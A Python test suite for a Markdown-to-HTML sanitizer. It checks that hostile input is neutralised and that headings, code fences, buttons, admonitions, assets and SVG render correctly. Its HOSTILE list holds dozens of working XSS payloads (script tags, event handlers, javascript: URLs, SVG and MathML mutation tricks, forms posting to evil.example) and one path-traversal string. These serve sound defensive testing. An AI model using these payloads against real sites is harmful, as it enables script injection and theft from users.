"""Markdown from outside becomes safe HTML, and keeps what authors meant."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from trackgate.markup.allow_list import clean
from trackgate.markup.render import (
    asset_path,
    render_admin_markdown,
    render_track_markdown,
)

TICKS = "```"


class Elements(HTMLParser):
    """Every element of an HTML text, with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def all(self, tag: str) -> list[dict[str, str]]:
        return [attributes for name, attributes in self.found if name == tag]


def elements(text: str) -> Elements:
    return Elements(render_track_markdown(text))


def assert_harmless(html: str) -> None:
    assert not re.search(
        r"<\s*(script|style|iframe|object|embed|form|link|meta|base|use|foreignobject)",
        html,
        re.IGNORECASE,
    )
    for tag, attributes in Elements(html).found:
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name not in {"style", "srcset", "srcdoc", "formaction", "xlink:href"}
            squeezed = re.sub(r"[\s\x00-\x20]", "", value).lower()
            assert not re.match(r"(javascript|vbscript|data|file|blob):", squeezed)
            if name == "src":
                assert value.startswith("https://")
            if "url(" in squeezed and name not in {"alt", "title", "aria-label"}:
                assert squeezed.startswith("url(#section-")


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://a.example/a.png" onload="alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img srcset="javascript:alert(1) 1x" src="https://a.example/a.png">',
    "<img src=http://a.example/a.png>",
    "<img src=//a.example/a.png>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[button label="x" onclick="alert(1)"](javascript:alert(1))',
    '[button label="</a><script>alert(1)</script>"](tab-1)',
    f'{TICKS}bash" onmouseover="alert(1)\nx\n{TICKS}',
    f"{TICKS}html\n<script>alert(1)</script>\n{TICKS}",
    f"{TICKS}\n</code></pre><script>alert(1)</script>\n{TICKS}",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="position:fixed;inset:0">x</div>',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<form action=https://evil.example><input name=p><button>go</button></form>",
    '<base href="https://evil.example/"><meta http-equiv=refresh content=0>',
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><use href='data:image/svg+xml,x#y'/></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><a href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><animate attributeName=href to=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1) /></svg>",
    "<svg><image href='https://evil.example/x.png'/></svg>",
    "<svg><path fill='url(https://evil.example/x#y)'/></svg>",
    "<svg><path fill='url(evil.svg)'/></svg>",
    "<svg><path fill='URL(#a) url(evil)'/></svg>",
    "<svg><path fill='u\\72l(https://evil.example)'/></svg>",
    "<svg><path d='M0 0' style='fill:url(https://evil.example)'/></svg>",
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<h1 onclick=alert(1)>x</h1>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives_in_track_markdown(text: str) -> None:
    assert_harmless(render_track_markdown(text))


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_survives_in_admin_markdown(text: str) -> None:
    assert_harmless(render_admin_markdown(text))


def test_the_judge_of_these_tests_does_find_harm() -> None:
    for html in (
        "<p onclick='x'>",
        "<a href='java\tscript:1'>",
        "<img src='http://a'>",
        "<SCRIPT>",
        "<path fill='url(https://a)'>",
    ):
        with pytest.raises(AssertionError):
            assert_harmless(html)


pieces = st.sampled_from(
    [
        *HOSTILE,
        "<svg>",
        "</svg>",
        "<title>",
        "<p>",
        "</p>",
        "<table>",
        "<a href='",
        "'>",
        '"',
        ">",
        "<",
        "<!--",
        "-->",
        "\n\n",
        "\n    ",
        TICKS + "\n",
        "> ",
        "- ",
        "[x](",
        ")",
        "&#x6a;avascript:",
        "<math>",
        "</style>",
        "<style>",
        "<details>",
        "# ",
        "| a | b |\n|--|--|\n",
    ]
)
mixtures = st.lists(pieces | st.text(max_size=6), max_size=12).map("".join)


@given(mixtures)
@settings(max_examples=300, deadline=None)
def test_no_mixture_of_hostile_pieces_survives(text: str) -> None:
    for html in (render_track_markdown(text), render_admin_markdown(text)):
        assert_harmless(html)


@given(mixtures)
@settings(max_examples=200, deadline=None)
def test_what_was_cleaned_stays_as_it_is_when_it_is_read_again(text: str) -> None:
    once = clean(text, pictures=True)
    assert_harmless(clean(once, pictures=True))


def test_raw_html_is_shown_as_text_in_admin_markdown() -> None:
    assert "&lt;b&gt;" in render_admin_markdown("<b>x</b>")


def test_raw_html_works_in_track_markdown_without_its_style() -> None:
    html = render_track_markdown('<p style="color:red">A <b class="evil">b</b></p>')
    assert html.strip() == "<p>A <b>b</b></p>"


def test_the_highest_heading_becomes_the_level_below_the_pages_own() -> None:
    html = render_track_markdown("First\n===\n\n## Second\n\nThird\n---")
    assert '<h3 id="section-first">' in html
    assert '<h4 id="section-second">' in html
    assert '<h4 id="section-third">' in html
    assert "<h2>" in render_admin_markdown("#### Only")


def test_raw_headings_move_with_the_others() -> None:
    html = render_track_markdown("# A\n\n<h2 style='color:red'>B</h2>")
    assert "<h3" in html
    assert "<h4>B</h4>" in html


def test_headings_never_go_below_the_sixth_level() -> None:
    assert "<h6" in render_track_markdown("# A\n\n###### B")


def test_headings_of_one_text_have_different_ids() -> None:
    html = render_track_markdown("# Same\n\n# Same\n\n[down](#same)")
    assert 'id="section-same"' in html
    assert 'id="section-same-2"' in html
    assert 'href="#section-same"' in html


def test_ids_of_content_never_meet_those_of_the_page() -> None:
    html = render_track_markdown('<a id="main"></a><h2 id="Login">x</h2>')
    assert 'id="main"' not in html
    assert 'id="section-login"' in html


@pytest.mark.parametrize(
    ("info", "expected"),
    [
        ("bash,run", {"data-language": "bash", "data-run": ""}),
        ("nocopy", {"data-nocopy": ""}),
        ("nocopy,run", {"data-nocopy": "", "data-run": ""}),
        ("bash, run", {"data-language": "bash", "data-run": ""}),
        ("BASH,RUN", {"data-language": "bash", "data-run": ""}),
        ("", {}),
        ("nosuchlanguage", {"data-language": "nosuchlanguage"}),
    ],
)
def test_flags_of_a_fence_become_data_attributes(
    info: str, expected: dict[str, str]
) -> None:
    (pre,) = elements(f"{TICKS}{info}\nls\n{TICKS}").all("pre")
    assert {name: value for name, value in pre.items() if "data" in name} == expected


def test_line_numbers_and_wrap_become_classes() -> None:
    text = f"{TICKS}ini,line-numbers,wrap\n[a]\nb=c\n{TICKS}"
    (pre,) = elements(text).all("pre")
    assert pre["class"] == "highlight line-numbers wrap"
    assert render_track_markdown(text).count('<span class="line">') == 2


def test_code_is_coloured_by_classes_and_can_be_reached_by_keyboard() -> None:
    html = render_track_markdown(f"{TICKS}python\ndef f(): pass\n{TICKS}")
    assert '<span class="k">def</span>' in html
    assert 'tabindex="0"' in html
    assert "style" not in html


def test_code_in_no_known_language_is_only_escaped() -> None:
    html = render_track_markdown(f"{TICKS}nosuch\na < b\n{TICKS}")
    assert "<code>a &lt; b\n</code>" in html


def test_a_button_to_a_tab_is_a_link_with_the_tabs_number() -> None:
    text = '[button label="Editor" background="#ee0000" color="#c7c7c7"](tab-1)'
    (link,) = elements(text).all("a")
    assert link["data-tab"] == "1"
    assert link["href"] == "#tab-1"
    assert link["class"] == "tab-button"
    assert "style" not in link
    assert ">Editor</a>" in render_track_markdown(text)
    assert "ee0000" not in render_track_markdown(text)


def test_a_plain_link_to_a_tab_keeps_its_text() -> None:
    html = render_track_markdown("Open the [*first* tab](tab-0).")
    assert 'class="tab-link"' in html
    assert "<em>first</em> tab</a>" in html


def test_a_button_to_outside_opens_in_a_window_of_its_own() -> None:
    (link,) = elements('[button label="Go" block](https://a.example/x)').all("a")
    assert link["class"] == "link-button"
    assert link["target"] == "_blank"
    assert link["rel"] == "noopener noreferrer"


def test_a_button_without_a_target_leads_nowhere() -> None:
    (link,) = elements('[button label="Check" variant="outline"]()').all("a")
    assert "href" not in link


def test_a_button_to_a_section_finds_the_heading() -> None:
    text = '# My part\n\n[button label="Up"](section-my-part)'
    (link,) = elements(text).all("a")
    assert link["href"] == "#section-my-part"


def test_links_to_outside_get_rel_and_unknown_relative_ones_lead_nowhere() -> None:
    outside, inside = elements("[a](https://a.example) [b](other/page)").all("a")
    assert outside["rel"] == "noopener noreferrer"
    assert "href" not in inside


@pytest.mark.parametrize("kind", ["NOTE", "tip", "Important", "WARNING", "caution"])
def test_a_quote_with_a_marker_becomes_an_admonition(kind: str) -> None:
    html = render_track_markdown(f"> [!{kind}]\n> Mind *this*.")
    assert f'<blockquote class="admonition {kind.lower()}">' in html
    assert f'<p class="admonition-title">{kind.capitalize()}</p>' in html
    assert "<p>Mind <em>this</em>.</p>" in html
    assert "[!" not in html


def test_a_plain_quote_stays_a_quote() -> None:
    assert "class" not in render_track_markdown("> said [!NOTE] she")


def test_assets_get_their_address_and_missing_ones_none() -> None:
    text = "![a](../assets/a.png) ![b](assets/b.png) <img src='/assets/a.png' alt=c>"
    html = render_track_markdown(
        text, asset_url=lambda path: f"/x/{path}" if path == "assets/a.png" else ""
    )
    images = Elements(html).all("img")
    assert [image.get("src") for image in images] == [
        "/x/assets/a.png",
        None,
        "/x/assets/a.png",
    ]
    assert [image["alt"] for image in images] == ["a", "b", "c"]


def test_images_come_by_https_only() -> None:
    images = elements("![a](https://a.example/a.png) ![b](http://a.example/b.png)")
    assert [image.get("src") for image in images.all("img")] == [
        "https://a.example/a.png",
        None,
    ]


@pytest.mark.parametrize(
    ("link", "path"),
    [
        ("../assets/a.png", "assets/a.png"),
        ("./assets/sub/a%20b.png?x#y", "assets/sub/a b.png"),
        ("assets/../track.yml", ""),
        ("../../../etc/passwd", ""),
        ("https://a.example/assets/a.png", ""),
        ("//a.example/assets/a.png", ""),
        ("javascript:assets/a", ""),
    ],
)
def test_only_what_lies_in_assets_is_an_asset(link: str, path: str) -> None:
    assert asset_path(link) == path


def test_svg_keeps_its_drawing_and_its_own_gradients() -> None:
    html = render_track_markdown(
        '<svg viewBox="0 0 9 9" role="img" aria-label="A dot"><defs>'
        '<linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient>'
        '</defs><circle cx="4" cy="4" r="3" fill="url(#g)"/><text x="1">Hi</text></svg>'
    )
    assert '<svg viewBox="0 0 9 9" role="img" aria-label="A dot">' in html
    assert '<linearGradient id="section-g">' in html
    assert 'fill="url(#section-g)"' in html
    assert "<text" in html


def test_admin_markdown_has_no_svg() -> None:
    assert "<svg" not in render_admin_markdown("<svg><path d='M0 0'/></svg>")


def test_table_cells_are_aligned_by_class() -> None:
    html = render_track_markdown("| a | b |\n|--:|:-:|\n| 1 | 2 |")
    assert '<td class="align-right">1</td>' in html
    assert '<td class="align-center">2</td>' in html


def test_classes_of_the_page_cannot_be_borrowed() -> None:
    assert "dialog" not in render_track_markdown('<div class="dialog">x</div>')


def test_details_open_and_close() -> None:
    html = render_track_markdown("<details><summary>More</summary>\n\nx\n\n</details>")
    assert "<details><summary>More</summary>" in html
    assert "<p>x</p>" in html
